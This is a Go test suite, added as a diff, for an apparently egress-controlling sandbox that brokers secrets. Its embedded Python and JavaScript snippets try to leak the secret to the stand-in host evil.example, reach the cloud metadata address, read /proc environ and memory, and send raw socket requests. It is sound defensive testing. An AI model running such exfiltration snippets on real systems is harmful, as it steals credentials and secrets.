@@ -1,0 +1,460 @@
+package main
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"encoding/pem"
+	"fmt"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"regexp"
+	"slices"
+	"strings"
+	"sync/atomic"
+	"testing"
+)
+
+const brokeredValue = "the-real-value-0123456789"
+
+// outWorld is a host on loopback that programs may reach, and one that they may
+// not.
+type outWorld struct {
+	dir, port   string
+	plain       string // port without TLS
+	seen, other atomic.Int64
+	withSecret  atomic.Int64 // requests that had the value in the right place
+}
+
+func newOutWorld(t *testing.T, runtime string) *outWorld {
+	w := &outWorld{dir: shortState(t)}
+	host := http.HandlerFunc(func(out http.ResponseWriter, r *http.Request) {
+		if strings.HasPrefix(r.Host, "example.com:") { // as the proxy writes it, whatever the program wrote
+			w.seen.Add(1)
+		} else {
+			w.other.Add(1)
+		}
+		if r.Header.Get("Authorization") == "Bearer "+brokeredValue {
+			w.withSecret.Add(1)
+		}
+		fmt.Fprintln(out, "hello", r.URL.Path, r.Header)
+	})
+	s, plain := httptest.NewTLSServer(host), httptest.NewServer(host)
+	t.Cleanup(s.Close)
+	t.Cleanup(plain.Close)
+	_, w.port, _ = net.SplitHostPort(s.Listener.Addr().String())
+	_, w.plain, _ = net.SplitHostPort(plain.Listener.Addr().String())
+	for name, text := range map[string][]byte{
+		"ca.pem": pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: s.Certificate().Raw}),
+		"sallyport.yaml": fmt.Appendf(nil, `policy: {runtime: %s, overrides: {network: warn, network-socket: warn, egress-host: warn, introspection: warn, file-outside: warn, environment: warn}}
+environments:
+  default:
+    egress:
+      allow: [{name: api, host: example.com, ports: [%s, %s], methods: [GET, POST], paths: [/v1/*], addresses: [127.0.0.1]}]
+      ca: ca.pem
+    secrets: {KEY: {env: REAL_KEY, broker: {rule: api}}}
+  closed: {}
+`, runtime, w.port, w.plain),
+	} {
+		if err := os.WriteFile(filepath.Join(w.dir, name), text, 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return w
+}
+
+// run runs a program and returns everything that comes out.
+func (w *outWorld) run(t *testing.T, name, code string, flags ...string) (int, string) {
+	t.Helper()
+	path := filepath.Join(w.dir, name)
+	if err := os.WriteFile(path, []byte(strings.ReplaceAll(code, "PORT", w.port)), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	status, out := w.invoke(append(append([]string{"run"}, flags...), path)...)
+	if strings.Contains(out, brokeredValue) {
+		t.Errorf("%s gave the value away:\n%s", name, out)
+	}
+	return status, out
+}
+
+func (w *outWorld) invoke(args ...string) (int, string) {
+	var out bytes.Buffer
+	env := map[string]string{"HOME": w.dir, "XDG_STATE_HOME": w.dir, "PATH": os.Getenv("PATH"), "REAL_KEY": brokeredValue}
+	root := rootCommand(newApp(strings.NewReader(""), &outWriter{w: &out}, &out, func(name string) (string, bool) { v, ok := env[name]; return v, ok }))
+	root.SetArgs(append([]string{"--config", filepath.Join(w.dir, "sallyport.yaml")}, args...))
+	err := root.ExecuteContext(context.Background())
+	if err != nil {
+		fmt.Fprintln(&out, err)
+	}
+	return exitCode(err), out.String()
+}
+
+const pythonGet = `
+import os, urllib.request, urllib.error
+def get(url, data=None, **headers):
+    try:
+        with urllib.request.urlopen(urllib.request.Request(url, headers=headers, data=data), timeout=20) as r:
+            return r.status, r.read().decode()
+    except urllib.error.HTTPError as e:
+        return e.code, e.read().decode()
+KEY = os.environ["KEY"]
+`
+
+const requestRules = `package sallyport.requests.own
+
+# METADATA
+# title: Not this path
+# custom: {id: own/path}
+deny contains {"rule": "own/path", "message": "no"} if input.egress.path == "/v1/denied"
+
+# METADATA
+# title: Sends something
+# custom: {id: own/post}
+ask contains {"rule": "own/post", "message": "no"} if input.egress.method == "POST"
+`
+
+// TestEgress takes programs through all of it: configuration, both doors, the
+// proxy, the log.
+func TestEgress(t *testing.T) {
+	if !requireRunsc(t) {
+		t.Skip("no runsc")
+	}
+	w := newOutWorld(t, "stop")
+	if status, out := w.invoke("config", "check"); status != 0 {
+		t.Fatalf("config check: %d %s", status, out)
+	}
+	status, out := w.run(t, "a.py", pythonGet+`
+print(get("https://example.com:PORT/v1/x"))
+print(get("https://example.com:PORT/v1/x", Authorization="Bearer " + KEY))
+print(get("https://example.com:PORT/admin"))
+print(get("https://evil.example:PORT/v1/x"))
+print(get("http://169.254.169.254/latest"))
+`)
+	if status != 0 || w.seen.Load() != 2 || w.other.Load() != 0 || w.withSecret.Load() != 1 {
+		t.Errorf("%d, %d requests, %d with the secret:\n%s", status, w.seen.Load(), w.withSecret.Load(), out)
+	}
+	for _, want := range []string{
+		"(200, 'hello /v1/x", `"reason":"path is not allowed"`, `"reason":"host is not allowed"`, "GET,HEAD", "Bearer sallyport-",
+		"GET https://evil.example:" + w.port + "/…: host is not allowed", "GET http://169.254.169.254/…: host is not allowed",
+	} {
+		if want == "GET,HEAD" {
+			want = "GET,POST example.com:" + w.port + "," + w.plain + " /v1/*"
+		}
+		if !strings.Contains(out, want) {
+			t.Errorf("no %q in\n%s", want, out)
+		}
+	}
+	status, out = w.run(t, "a.mjs", `
+const r = await fetch("https://example.com:PORT/v1/x", {headers: {authorization: "Bearer " + process.env.KEY}}); console.log(r.status);
+const q = await fetch("https://evil.example/"); console.log(q.status);
+`)
+	if status != 0 || !strings.Contains(out, "200\n403\n") || strings.Contains(out, "socket(") || w.withSecret.Load() != 2 {
+		t.Errorf("%d %s", status, out)
+	}
+
+	// Rules about requests tighten what egress allows; nobody is there to ask.
+	rules := filepath.Join(w.dir, "rules")
+	if err := os.Mkdir(rules, 0o700); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(rules, "r.rego"), []byte(requestRules), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	status, out = w.run(t, "r.py", pythonGet+`
+print(get("https://example.com:PORT/v1/x"))
+print(get("https://example.com:PORT/v1/denied"))
+print(get("https://example.com:PORT/v1/x", data=b"x"))
+`, "--policy", rules)
+	if status != 0 || w.seen.Load() != 4 || !strings.Contains(out, `"reason":"rule own/path, Not this path"`) ||
+		!strings.Contains(out, `"reason":"rule own/post, Sends something: nobody approved it"`) {
+		t.Errorf("%d %s", status, out)
+	}
+
+	if status, out := w.invoke("audit", "verify"); status != 0 {
+		t.Errorf("audit verify: %d %s", status, out)
+	}
+	_, out = w.invoke("audit", "tail", "-n", "50")
+	out = strings.Join(strings.Fields(out), " ")
+	for _, want := range []string{"egress 2 GET https://example.com:" + w.port, "egress_end 2 GET https://example.com:" + w.port + " status 200", "refused: host is not allowed"} {
+		if !strings.Contains(out, want) {
+			t.Errorf("audit tail has no %q:\n%s", want, out)
+		}
+	}
+	// Without egress, and where policy denies the network, there is none.
+	if _, out := w.run(t, "b.py", "import socket\nsocket.create_connection(('example.com', 1))\n", "--environment", "closed"); w.seen.Load() != 4 || !strings.Contains(out, "socket.getaddrinfo") {
+		t.Error(out)
+	}
+	if _, out := w.run(t, "b.py", "import socket\nsocket.create_connection(('example.com', 1))\n", "--pack", "strict"); !strings.Contains(out, "deny") && !strings.Contains(out, "denied") {
+		t.Error(out)
+	}
+	w.nothingKept(t)
+}
+
+// TestDoorOneKnowsEgress holds what baseline and strict make of egress before
+// anything runs: clients of HTTP pass, sockets do not, nor does a host that
+// stands in the program and is not allowed.
+func TestDoorOneKnowsEgress(t *testing.T) {
+	w := newOutWorld(t, "stop")
+	path := filepath.Join(w.dir, "sallyport.yaml")
+	text, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	plain := regexp.MustCompile(`(?m)^policy: .*\n`).ReplaceAllString(string(text), "")
+	if err := os.WriteFile(path, []byte(plain), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	const client = "import urllib.request\nurllib.request.urlopen("
+	for _, tt := range []struct {
+		name, code, pack string
+		status           int
+		want             string
+	}{
+		{"a.py", client + "'https://example.com:PORT/v1/x')", "baseline", 0, ""},
+		{"a.py", client + "'https://example.com:PORT/v1/x')", "strict", 0, ""},
+		{"a.py", client + "'https://evil.example/')", "baseline", 3, "urllib.request.urlopen asks evil.example, which is not allowed; allowed: example.com"},
+		{"a.py", client + "f'https://evil.example/{input()}')", "baseline", 3, "a.py:2:1"},
+		{"a.py", client + "input())", "baseline", 0, ""},
+		{"a.py", client + "input())", "strict", 3, "the host is not a constant"},
+		{"a.py", "import socket\nsocket.create_connection(('example.com', 1))", "baseline", 3, "only HTTP can be let out"},
+		{"a.mjs", "await fetch('https://example.com/')", "strict", 0, ""},
+		{"a.mjs", "await fetch('https://evil.example/')", "baseline", 3, "egress-host"},
+		{"a.mjs", "import net from 'node:net'; net.connect(1, 'example.com')", "baseline", 3, "only HTTP can be let out"},
+	} {
+		name := filepath.Join(w.dir, tt.name)
+		if err := os.WriteFile(name, []byte(strings.ReplaceAll(tt.code, "PORT", w.port)+"\n"), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		status, out := w.invoke("check", "--pack", tt.pack, name)
+		if status != tt.status || !strings.Contains(out, tt.want) {
+			t.Errorf("%s under %s: %d, want %d and %q:\n%s", tt.code, tt.pack, status, tt.status, tt.want, out)
+		}
+	}
+}
+
+// TestBrokeredSecretStaysOutside has programs that were told to give the secret
+// away, in every way that they have.
+func TestBrokeredSecretStaysOutside(t *testing.T) {
+	if !requireRunsc(t) {
+		t.Skip("no runsc")
+	}
+	w := newOutWorld(t, "observe") // every try is to be made to its end
+	api := `"https://example.com:PORT/v1/x"`
+	searching := "get(" + api + ", Authorization='Bearer ' + KEY)\n" + memorySearch
+	for name, tt := range map[string]struct {
+		code string
+		sent int64 // requests that may have the value
+	}{
+		"print":        {`print(KEY, KEY[::-1], KEY.encode().hex())`, 0},
+		"environment":  {`print(dict(os.environ), open("/proc/self/environ").read())`, 0},
+		"processes":    {`print([open(f"/proc/{p}/cmdline").read() for p in os.listdir("/proc") if p.isdigit()])`, 0},
+		"memory":       {searching, 1},
+		"exception":    {`raise ValueError(KEY)`, 0},
+		"file":         {`open("leak", "w").write(KEY)`, 0},
+		"echo":         {`print(get(` + api + `, Authorization="Bearer " + KEY))`, 1},
+		"another host": {`print(get("https://evil.example:PORT/v1/x", Authorization="Bearer " + KEY))`, 0},
+		"other header": {`print(get(` + api + `, Cookie=KEY))`, 0},
+		"path":         {`print(get("https://example.com:PORT/v1/" + KEY))`, 0},
+		"query":        {`print(get(` + api + ` + "?k=" + KEY))`, 0},
+		"body":         {`print(get(` + api + `, data=KEY.encode()))`, 0},
+		"clear text":   {`print(get("http://example.com:PORT/v1/x", Authorization="Bearer " + KEY))`, 0},
+		"range":        {`print(get(` + api + `, Authorization="Bearer " + KEY, Range="bytes=0-3"))`, 0},
+		"other path":   {`print(get("https://example.com:PORT/v2/x", Authorization="Bearer " + KEY))`, 0},
+		"user":         {`print(get("https://" + KEY + "@169.254.169.254/"))`, 0},
+		"host name":    {`print(get("https://" + KEY + ".evil.example/"))`, 0},
+		"packed":       {`print(get(` + api + `, **{"Authorization": "Bearer " + KEY, "Accept-Encoding": "gzip"}))`, 1},
+		"raw":          {"import socket\nc = socket.create_connection(('example.com', PORT))\nc.sendall(('GET /v1/x HTTP/1.1\\r\\nHost: example.com\\r\\nAuthorization: Bearer ' + KEY + '\\r\\n\\r\\n').encode())\nprint(c.recv(9999))", 0},
+		"nonsense":     {"import socket\nc = socket.create_connection(('example.com', PORT))\nc.sendall(KEY.encode() + b'\\r\\n\\r\\n')\nprint(c.recv(9999))", 0},
+	} {
+		before := w.withSecret.Load()
+		_, out := w.run(t, "leak.py", pythonGet+tt.code+"\n")
+		if got := w.withSecret.Load() - before; got != tt.sent {
+			t.Errorf("%s: %d requests with the value, want %d:\n%s", name, got, tt.sent, out)
+		}
+		if name == "memory" && !strings.Contains(out, "found 0") {
+			t.Errorf("in memory: %s", out)
+		}
+	}
+	if w.other.Load() > 0 {
+		t.Error("another host was reached")
+	}
+	w.nothingKept(t)
+
+	w = newOutWorld(t, "stop")
+	if status, out := w.run(t, "leak.py", pythonGet+searching); status != 4 || !strings.Contains(out, "native: open.memory") || strings.Contains(out, "found ") {
+		t.Errorf("where policy stops it, searching the memory ended with %d:\n%s", status, out)
+	}
+	w.nothingKept(t)
+}
+
+// attackers send each of the attacks over a connection of its own, from inside
+// of a sandbox, and print the codes that come back.
+var attackers = map[string]string{
+	"attack.py": `
+import json, re, socket, ssl
+for name, tls, send in json.loads(ATTACKS):
+    got = b""
+    try:
+        c = socket.create_connection(("example.com", PORT if tls else PLAIN), 20)
+        if tls:
+            c = ssl.create_default_context().wrap_socket(c, server_hostname="example.com")
+        c.sendall(send.encode())
+        while more := c.recv(65536):
+            got += more
+    except OSError:
+        pass
+    print(json.dumps([name, re.findall(r"HTTP/1\.[01] (\d{3})", got.decode("latin-1"))]))
+`,
+	"attack.mjs": `
+import net from "net";
+import tls from "tls";
+for (const [name, secure, send] of JSON.parse(ATTACKS)) {
+  let got = "";
+  await new Promise((done) => {
+    const to = { host: "example.com", port: secure ? PORT : PLAIN, servername: "example.com" };
+    const c = secure ? tls.connect(to) : net.connect(to);
+    c.on(secure ? "secureConnect" : "connect", () => c.write(send));
+    c.on("data", (more) => { got += more.toString("latin1"); });
+    c.on("error", () => {});
+    c.on("close", done);
+  });
+  console.log(JSON.stringify([name, [...got.matchAll(/HTTP\/1\.[01] (\d{3})/g)].map((m) => m[1])]));
+}
+`,
+}
+
+// TestAttacksFromInside makes the attacks of package egress with programs that
+// were run, in both languages.
+func TestAttacksFromInside(t *testing.T) {
+	if !requireRunsc(t) {
+		t.Skip("no runsc")
+	}
+	text, err := os.ReadFile("../../egress/testdata/attacks.json")
+	if err != nil {
+		t.Fatal(err)
+	}
+	text = bytes.ReplaceAll(bytes.ReplaceAll(text, []byte("api.test.example"), []byte("example.com")), []byte("API.TEST.EXAMPLE"), []byte("EXAMPLE.COM"))
+	var attacks []struct {
+		Name string
+		TLS  bool
+		Send string
+		Want string
+		Hits int64
+	}
+	if err := json.Unmarshal(text, &attacks); err != nil {
+		t.Fatal(err)
+	}
+	var given [][]any
+	var most int64
+	for _, a := range attacks {
+		most += a.Hits
+		given = append(given, []any{a.Name, a.TLS, strings.ReplaceAll(a.Send, "LONG", strings.Repeat("a", 40<<10))})
+	}
+	data, err := json.Marshal(given)
+	if err != nil {
+		t.Fatal(err)
+	}
+	literal, err := json.Marshal(string(data)) // a string of both languages
+	if err != nil {
+		t.Fatal(err)
+	}
+	for name, code := range attackers {
+		t.Run(name, func(t *testing.T) {
+			w := newOutWorld(t, "stop")
+			code := strings.ReplaceAll(strings.ReplaceAll(code, "PLAIN", w.plain), "ATTACKS", string(literal))
+			status, out := w.run(t, name, code)
+			answers := map[string]string{}
+			for line := range strings.Lines(out) {
+				var answer []any
+				if json.Unmarshal([]byte(line), &answer) == nil && len(answer) == 2 {
+					answers[fmt.Sprint(answer[0])] = strings.Trim(strings.ReplaceAll(fmt.Sprint(answer[1]), " ", ","), "[]")
+				}
+			}
+			if status != 0 || len(answers) != len(attacks) {
+				t.Fatalf("%d, %d of %d attacks:\n%s", status, len(answers), len(attacks), out)
+			}
+			for _, a := range attacks {
+				got := answers[a.Name]
+				if got == "" {
+					got = "closed"
+				}
+				if !slices.Contains(strings.Split(a.Want, "|"), got) {
+					t.Errorf("%s: %s, want %s", a.Name, got, a.Want)
+				}
+			}
+			if w.other.Load() > 0 || w.seen.Load() > most {
+				t.Errorf("%d requests arrived, %d at another host; %d may", w.seen.Load(), w.other.Load(), most)
+			}
+		})
+	}
+}
+
+// memorySearch looks at all that the program's process has in memory.
+const memorySearch = `
+found = 0
+with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
+    for line in maps:
+        span, rights = line.split()[:2]
+        begin, end = (int(x, 16) for x in span.split("-"))
+        if "r" in rights and end - begin < 1 << 28:
+            try:
+                mem.seek(begin)
+                found += mem.read(end - begin).count(bytes(c ^ 3 for c in b"wkf.qfbo.ubovf"))  # it is not to find its own words
+            except (OSError, ValueError, OverflowError):
+                pass
+print("found", found)
+`
+
+// nothingKept looks for the value in everything that sallyport has written.
+func (w *outWorld) nothingKept(t *testing.T) {
+	t.Helper()
+	err := filepath.WalkDir(w.dir, func(path string, d os.DirEntry, err error) error {
+		if err != nil || !d.Type().IsRegular() {
+			return err
+		}
+		text, err := os.ReadFile(path)
+		if bytes.Contains(text, []byte(brokeredValue)) {
+			t.Errorf("%s has the value in it", path)
+		}
+		return err
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+}
+
+// TestEgressThatCannotWork: config check says so, and what would mend it.
+func TestEgressThatCannotWork(t *testing.T) {
+	w := newOutWorld(t, "stop")
+	path := filepath.Join(w.dir, "sallyport.yaml")
+	good, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	own := "package sallyport.rules.own\n\n# METADATA\n# title: No network\n# custom:\n#   id: own/network\n#   capability: network\n" +
+		"deny contains {\"rule\": \"own/network\", \"message\": \"no\"} if \"x\" in input.source.names\n"
+	if err := os.Mkdir(filepath.Join(w.dir, "own"), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(w.dir, "own", "own.rego"), []byte(own), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	for _, tt := range []struct{ old, new, want string }{
+		{"policy: {", "policy: {dirs: [own], ", "rule own/network denies the network"},
+		{"environments:", "sandbox: {backend: docker}\nenvironments:", "the backend docker cannot let programs reach hosts"},
+		{"host: example.com", "host: 10.0.0.1", "is an address"},
+		{"env: REAL_KEY", "env: NO_KEY", "NO_KEY is not set"},
+		{"ca: ca.pem", "ca: none.pem", "reading the certificates of hosts"},
+		{"host: example.com", "host: '*.example.com'", "more than one host"},
+	} {
+		if err := os.WriteFile(path, []byte(strings.Replace(string(good), tt.old, tt.new, 1)), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		if status, out := w.invoke("config", "check"); status == 0 || !strings.Contains(out, tt.want) {
+			t.Errorf("%d %s, want %q", status, out, tt.want)
+		}
+	}
+}
